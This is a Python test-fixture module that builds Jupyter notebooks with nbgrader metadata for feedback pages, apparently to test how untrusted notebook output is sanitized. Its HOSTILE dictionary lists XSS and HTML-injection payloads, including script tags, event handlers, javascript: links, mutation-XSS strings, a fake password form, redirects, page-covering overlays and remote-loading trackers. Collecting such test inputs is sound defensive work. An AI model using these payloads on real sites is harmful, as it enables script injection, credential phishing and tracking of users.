"""Notebooks for feedback pages, cell by cell, and what a stranger might put into one."""

from __future__ import annotations

import base64
from typing import Any

PIXEL = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
    )
).decode()

# Each tries to run, to fetch, to send, to cover, or to swallow what stands after it.
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "onerror": '<img src="x" onerror="alert(1)">',
    "onload": '<svg onload="alert(1)"><g onclick="alert(1)"></g></svg>',
    "javascript link": '<a href="javascript:alert(1)">x</a><a href=" jAvAsCrIpT:alert(1)">y</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "style url": '<div style="background:url(https://e.example/x.png)">x</div>',
    "style import": '<style>@import "https://e.example/x.css"; body{display:none}</style>',
    "svg style": '<svg><style>*{fill:url("https://e.example/x.svg#a")}</style><rect fill="url(https://e.example/#a)"/></svg>',
    "escaped url": '<div style="background:\\75rl(https://e.example/x.png)">x</div>',
    "svg image": '<svg><image href="https://e.example/x.png"/><use href="https://e.example/x.svg#a"/></svg>',
    "foreignObject": "<svg><foreignObject><iframe src='https://e.example'></iframe></foreignObject></svg>",
    "animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "iframe": '<iframe src="https://e.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html;base64,PHNjcmlwdD4="></object><embed src="https://e.example">',
    "base": '<base href="https://e.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://e.example/">',
    "form": '<form action="https://e.example/"><input name="password"><button>Log in</button></form>',
    "link": '<link rel="stylesheet" href="https://e.example/x.css">',
    "open comment": "<!-- and nothing after this",
    "closed page": "</details></section></main></body></html>",
    "open details": "<details><summary>more</summary><div><table><tr><td>",
    "open textarea": "<textarea>",
    "open title": "<title>",
    "plaintext": "<plaintext>",
    "open attribute": '<a title="',
    "cdata": "<svg><![CDATA[<script>alert(1)</script>]]></svg>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "svg title": "<svg></p><title><a id='</title><img src=1 onerror=alert(1)>'></svg>",
    "cover": '<div style="position:fixed;inset:0;z-index:9;margin:-9em">100 %</div>',
    "stolen id": '<h1 id="exercise-1" class="total">14 of 14 points</h1>',
    "remote picture": '<img src="https://e.example/x.png" srcset="https://e.example/y.png 2x">',
    "svg picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "tracker": '<video poster="https://e.example/x.png" src="https://e.example/x"></video><audio src="//e.example/x">',
    "nul": "<scr\0ipt>alert(1)</scr\0ipt>",
}

LOCKED: dict[str, Any] = {"locked": True, "solution": False, "grade": False}
TEST: dict[str, Any] = {"locked": True, "solution": False, "grade": True, "points": 2}
ANSWER: dict[str, Any] = {"locked": False, "solution": True, "grade": False}
SECRET = "_secret_input = torch.tensor(5.25)"
CHECK = f"check_something(1)\n### BEGIN HIDDEN TESTS\n{SECRET}\nassert f(_secret_input) == 3\n### END HIDDEN TESTS"


def code(source: str, *outputs: dict[str, Any], **entry: Any) -> dict[str, Any]:
    return {"cell_type": "code", "source": source, "outputs": list(outputs), "metadata": _metadata(entry)}


def prose(source: str, **entry: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "source": source, "metadata": _metadata(entry)}


def _metadata(entry: dict[str, Any]) -> dict[str, Any]:
    return {"nbgrader": {"schema_version": 3, **entry}} if entry else {}


def book(*cells: dict[str, Any]) -> dict[str, Any]:
    return {"cells": list(cells), "metadata": {"kernelspec": {"language": "python"}}, "nbformat": 4}


def shown(**data: str) -> dict[str, Any]:
    named = {name.replace("_", "/", 1): value for name, value in data.items()}
    return {"output_type": "display_data", "data": named, "metadata": {}}


def printed(words: str, name: str = "stdout") -> dict[str, Any]:
    return {"output_type": "stream", "name": name, "text": words}


def failed(name: str, words: str, *lines: str) -> dict[str, Any]:
    return {"output_type": "error", "ename": name, "evalue": words, "traceback": list(lines)}
